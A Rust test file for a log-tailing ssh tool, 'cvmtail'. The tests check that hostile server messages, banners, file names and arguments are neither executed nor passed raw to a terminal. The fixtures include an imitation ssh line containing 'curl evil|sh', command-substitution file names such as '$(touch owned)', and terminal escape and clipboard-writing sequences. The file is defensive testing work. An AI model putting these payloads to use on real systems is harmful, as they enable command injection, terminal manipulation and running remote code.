//! Foreign words: whatever a server, a CVM, a file or an argument says, it is never a command and never an escape.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::os::unix::fs::PermissionsExt as _;

use crate::told::{LONG, nothing_left, nothing_left_of_local, objects};
use crate::world::World;
use crate::world::grade::Grade;
use crate::world::trouble;

/// What a terminal obeys or hides: a title, the clipboard, C1 controls, marks of direction, what has no width.
const EVIL: &str = "\x1b]0;t\x07\x1b]52;c;ZQ==\x07\u{9b}2J\u{202e}\u{200b}";
/// Lines that imitate ssh's own, with what a user should not run.
const IMITATIONS: &str = "ssh: Could not resolve hostname x;curl evil|sh #: Name or service not known\n\
    Warning: Permanently added 'evil' (ED25519) to the list of known hosts.\n\
    Offending ECDSA key in /root/.ssh/authorized_keys:1\n\
    Host key for evil has changed and you have requested strict checking.\n\
    $(id)@evil: Permission denied (publickey).\n\
    Host key verification failed.";

/// Somebody who answers on a port, greets as an sshd would, and takes leave with `reason` before any key is exchanged.
/// No sshd does that, so here it is played.
fn takes_leave(reason: &str) -> SocketAddr {
    let mut packet = vec![1, 0, 0, 0, 2];
    packet.extend(u32::try_from(reason.len()).expect("short").to_be_bytes());
    packet.extend(reason.as_bytes());
    packet.extend([0; 4]);
    let padding = 8 - (packet.len() + 5) % 8 + 8;
    let length = u32::try_from(packet.len() + padding + 1).expect("short").to_be_bytes();
    let padded = [&length[..], &[u8::try_from(padding).expect("short")], &packet, &vec![0; padding]].concat();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n");
            let _ = stream.write_all(&padded);
            // Closed with words unread it would be a reset.
            let _ = stream.shutdown(std::net::Shutdown::Write);
            let _ = stream.read_to_end(&mut Vec::new());
        }
    });
    address
}

/// The rows of a terminal after all that was printed: what a line was before it was erased is gone.
fn rows(screen: &[u8]) -> String {
    let text = String::from_utf8_lossy(screen).into_owned();
    let row = |row: &str| row.trim_end_matches('\r').rsplit("\x1b[2K").next().unwrap_or_default().to_owned();
    text.split('\n').map(row).collect::<Vec<_>>().join("\n")
}

/// Ends the test if there is anything in a text that a terminal would obey or hide.
#[track_caller]
fn assert_shown(text: &str) {
    let obeyed = |c: char| c.is_control() && !"\n\r\t".contains(c) || matches!(c, '\u{202e}' | '\u{200b}');
    assert!(!text.contains(obeyed), "{text:?}");
}

#[test]
fn a_reason_before_any_key_is_exchanged_is_no_diagnosis() {
    let world = World::ports();
    let address = takes_leave(&format!("go away\n{IMITATIONS}"));
    let shown = "sshd on 127.0.0.1 refused the login: go away";
    let fix = "sshd may have too many logins in progress (MaxStartups; a lower `--parallel` helps) or reject this \
               machine (firewall, /etc/hosts.allow)";
    let target = address.to_string();
    let done = world.cvmtail(&["--no-follow", "-c", &target, "genesis"]).finish(LONG).expect(2);
    let expected = format!("cvmtail: 127.0.0.1 genesis: error: {shown}\n  hint: {fix}\n");
    assert!(done.err().ends_with(&expected), "{}", done.err());
    let done = world.cvmtail(&["logs", "-c", &target]).finish(LONG).expect(2);
    assert_eq!(done.err(), format!("cvmtail: 127.0.0.1: {shown}\n  hint: {fix}\n"));
    let done =
        world.cvmtail(&["check", "--color", "never", "-c", &target]).terminal(300, 24).finish(LONG).expect(1);
    let text = done.out();
    assert!(text.contains(&format!("{shown}  (")), "{text}");
    assert!(!text.contains("evil") && !text.contains("authorized_keys"), "{text}");
    assert_shown(&text);
    let done = world.cvmtail(&["cvms", "--discover", &target]).finish(LONG).expect(2);
    assert!(done.err().contains(&format!(": {shown}\n\n  hint: {fix}\n")), "{}", done.err());
    let target = takes_leave(EVIL).to_string();
    for words in [
        &["logs"][..],
        &["--no-follow", "genesis"],
        &["check"],
        &["check", "--json"],
        &["snapshot", "genesis"],
    ] {
        for terminal in [false, true] {
            let run = world.cvmtail(words).args(["-c", &target]).env("NO_COLOR", "1");
            let done = if terminal { run.terminal(300, 24) } else { run }.finish(LONG);
            let told = rows(&done.stdout) + &done.err();
            assert!(told.contains("refused the login"), "{words:?}: {told}");
            assert_shown(&told);
        }
    }
}

#[test]
fn a_banner_that_imitates_ssh_is_a_banner() {
    let world = World::new();
    let text = world.folder().join("banner");
    fs::write(&text, format!("{IMITATIONS}\n")).expect("a banner");
    let cvm = world.cvm("ntnx-a-cvm").option(&format!("Banner {}", text.display())).start();
    cvm.log("genesis.out").put("one\n");
    let path = cvm.log("genesis.out").path;
    let done = world.cvmtail(&["check", "--json", "-c", "ntnx-a-cvm", &path]).finish(LONG).expect(0);
    let steps = objects(&done.stdout);
    let message = |step: &str| {
        let step = steps.iter().find(|it| it["step"] == step).expect("a step");
        step["message"].as_str().expect("a message").to_owned()
    };
    assert!(message("host_key").contains(" is known ("), "{}", message("host_key"));
    assert!(message("auth").ends_with("; sshd shows a banner of 6 lines"), "{}", message("auth"));
    trouble::lock_out(&cvm);
    for words in [&["check", "-c", "ntnx-a-cvm", &path][..], &["--no-follow", "-c", "ntnx-a-cvm", &path]] {
        let done = world.cvmtail(words).finish(LONG);
        let all = done.out() + &done.err();
        assert!(
            all.contains(
                "ntnx-a-cvm was refused: none of your keys was accepted (allowed methods: publickey)"
            ),
            "{all}"
        );
        assert!(!all.contains("evil") && !all.contains("authorized_keys") && !all.contains("$(id)"), "{all}");
    }
    nothing_left(&world, &[cvm]);
}

#[test]
fn a_banner_at_a_jump_host_or_behind_it_is_a_banner() {
    let world = World::new();
    let text = world.folder().join("banner");
    fs::write(&text, format!("{IMITATIONS}\n")).expect("a banner");
    let banner = format!("Banner {}", text.display());
    let [near, far] = ["near", "far"].map(|name| world.cvm(name).option(&banner).start());
    let path = far.log("genesis.out").path;
    let refused = |told: &str| {
        let done = world.cvmtail(&["--no-follow", "-c", "far", "-J", "near", &path]).finish(LONG).expect(2);
        let err = done.err();
        assert!(err.contains(told) && err.contains("allowed methods: publickey"), "{told}: {err}");
        assert!(!err.contains("evil") && !err.contains("authorized_keys") && !err.contains("$(id)"), "{err}");
    };
    trouble::lock_out(&far);
    refused("@far was refused: none of your keys was accepted");
    trouble::lock_out(&near);
    refused("cannot connect through the jump host near: ");
    nothing_left(&world, &[near, far]);
}

#[test]
fn a_name_on_the_cvm_is_quoted_for_both_shells_or_left_out() {
    let Some(world) = World::namespaces() else { return };
    let cvm = world.cvm("ntnx-a-cvm").start();
    let names =
        ["$(touch owned).FATAL", "it's \\ \"x\".FATAL", "`touch owned`.FATAL", &format!("{EVIL}.FATAL")];
    for name in names {
        let log = cvm.log(name);
        log.put("secret\n");
        fs::set_permissions(&log.file, fs::Permissions::from_mode(0o600)).expect("chmod");
        std::os::unix::fs::chown(&log.file, Some(0), Some(0)).expect("chown");
    }
    let done = world.cvmtail(&["check", "--json", "-c", "ntnx-a-cvm", "*.FATAL"]).finish(LONG).expect(1);
    let steps = objects(&done.stdout);
    let unreadable: Vec<_> = steps.iter().filter(|it| it["step"] == "log_readable").collect();
    assert_eq!(unreadable.len(), names.len(), "{}", done.out());
    for step in unreadable {
        let hint = step["hint"].as_str().expect("a hint");
        let copied: Vec<&str> = hint.split('`').skip(1).step_by(2).collect();
        let log = step["log"].as_str().expect("a log");
        if log.contains('`') || log.contains("52;c") {
            assert_eq!(copied, [""; 0], "{hint}");
            continue;
        }
        // What is copied is run by a shell whose sudo shows its words.
        let script = format!("sudo() {{ for it; do printf '%s\\n' \"$it\"; done; }}\n{}", copied[0]);
        let path = cvm.log(log).path;
        let ran = world.run("sh", &["-c", &script]).finish(LONG).expect(0);
        assert_eq!(ran.out(), format!("setfacl\n-m\nu:nutanix:r\n{path}\n"), "{hint}");
    }
    nothing_left(&world, &[cvm]);
}

#[test]
fn what_a_follow_offers_runs_on_the_cvm_as_it_is_meant() {
    let world = World::new();
    let cvm = world.cvm("ntnx-a-cvm").start();
    let log = cvm.log("a $(touch owned) 'b'.out");
    log.put("secret\n");
    if !trouble::close(&world, &log) {
        return;
    }
    let done = world.cvmtail(&["--no-follow", "-c", "ntnx-a-cvm", &log.path]).finish(LONG).expect(2);
    let offered = trouble::command(&done.err(), "ssh ");
    let ran = world.run("sh", &["-c", &offered]).finish(LONG).expect(0);
    assert!(ran.out().trim_end().ends_with(&log.path), "{offered}: {}", ran.out());
    let found = world.run("find", &[world.folder().to_str().expect("a path"), "-name", "owned"]).finish(LONG);
    assert_eq!(found.out(), "");
    nothing_left(&world, &[cvm]);
}

#[test]
fn lists_show_what_a_terminal_would_obey() {
    let world = World::ports();
    let folder = world.folder().join("logs here");
    fs::create_dir(&folder).expect("a folder");
    let file = folder.join(format!("{EVIL}.out"));
    fs::write(&file, "one\n").expect("a log");
    std::os::unix::fs::symlink(format!("{EVIL}.out"), folder.join("link.out")).expect("a link");
    let glob = format!("{}/*.out", folder.display());
    let config = world.folder().join("odd.toml");
    fs::write(&config, format!("[logs]\nodd = \"/x/{}.out\"\n", "\\u001b]0;t\\u0007\\u009b\\u202e\\u200b"))
        .expect("a config");
    let config = config.display().to_string();
    for form in [None, Some("--json")] {
        for words in [&["logs", "-c", "local", &glob][..], &["logs", "--config", &config]] {
            let run = || world.cvmtail(words).args(form);
            let shown = run().terminal(300, 40).finish(LONG).expect(0);
            let text = shown.out();
            assert_shown(&text);
            let piped = run().finish(LONG).expect(0);
            if form.is_some() {
                let read = |text: &[u8]| {
                    objects(text)
                        .into_iter()
                        .map(|mut it| {
                            it["age_s"] = serde_json::Value::Null;
                            it
                        })
                        .collect::<Vec<_>>()
                };
                assert_eq!(read(&shown.stdout), read(&piped.stdout));
                assert!(piped.out().contains('\u{202e}'), "a pipe gets it as it is: {}", piped.out());
            } else {
                assert_shown(&piped.out());
                assert!(text.contains("<U+202E><U+200B>.out"), "{text}");
            }
        }
    }
    let path = file.display().to_string();
    for form in ["text", "ndjson"] {
        let done = world
            .cvmtail(&["check", "--color", "never", "-o", form, "-c", "local", &path])
            .terminal(300, 24)
            .finish(LONG)
            .expect(0);
        assert_shown(&done.out());
    }
    for form in ["text", "json", "ndjson", "prometheus", "junit", "markdown"] {
        let words = ["snapshot", "--color", "never", "-o", form, "-c", "local", &path];
        // No line of it tells its time: the status does not matter here.
        let done = world.cvmtail(&words).terminal(300, 60).finish(LONG);
        let text = rows(&done.stdout);
        assert!(text.contains(".out"), "{form}: {text}");
        assert_shown(&text);
    }
    nothing_left_of_local(&world);
}

#[test]
fn what_svmips_says_is_shown() {
    let world = World::new();
    if world.grade() != Grade::Namespaces {
        return;
    }
    let cvm = world.cvm("ntnx-a-cvm").start();
    let script = format!("#!/bin/sh\nprintf '%s' '{EVIL}'\nexit 3\n");
    cvm.install("nutanix/cluster/bin/svmips", &script);
    let done = world.cvmtail(&["cvms", "--discover", "ntnx-a-cvm"]).finish(LONG).expect(2);
    assert!(done.err().contains("svmips ended with status 3: "), "{}", done.err());
    assert_shown(&done.err());
    cvm.install("nutanix/cluster/bin/svmips", &format!("#!/bin/sh\nprintf '%s' 'a{EVIL}'\n"));
    let done = world.cvmtail(&["cvms", "--discover", "ntnx-a-cvm"]).terminal(300, 24).finish(LONG).expect(2);
    assert_shown(&done.out());
    nothing_left(&world, &[cvm]);
}

#[test]
fn mistakes_repeat_what_was_typed_as_a_terminal_may_have_it() {
    let world = World::ports();
    let config = world.folder().join("wrong.toml");
    fs::write(&config, format!("# {EVIL}\n[{EVIL}]\nx = 1 # {EVIL}\n")).expect("a config");
    let config = config.display().to_string();
    let (flag, text) = (format!("--{EVIL}"), format!("x{EVIL}"));
    for words in [
        &["-c", "local", &flag][..],
        &["-c", "local", "--order", &text, "genesis"],
        &["-c", "local", "-n", &text, "genesis"],
        &["-c", "local", &text],
        &["-c", &text, "genesis"],
        &["-c", "local", "-g", &format!("({text}"), "genesis"],
        &["-c", "local", "--template", &format!("{{{text}}}"), "genesis"],
        &["-c", "local", "--since", &text, "genesis"],
        &["logs", "--config", &config],
        &["logs", "--config", &text],
        &["completions", &text],
    ] {
        for terminal in [false, true] {
            let run = world.cvmtail(words).env("NO_COLOR", "1");
            let done = if terminal { run.terminal(300, 24) } else { run }.finish(LONG).expect(2);
            let told = if terminal { done.out() } else { done.err() };
            // clap takes no part in NO_COLOR on every terminal: its own colours may be there.
            let told: String = told
                .split("\x1b[")
                .enumerate()
                .map(
                    |(at, part)| {
                        if at == 0 { part } else { part.split_once('m').map_or(part, |(_, rest)| rest) }
                    },
                )
                .collect();
            assert!(told.contains("error: "), "{words:?}: {told}");
            assert_shown(&told);
        }
    }
}
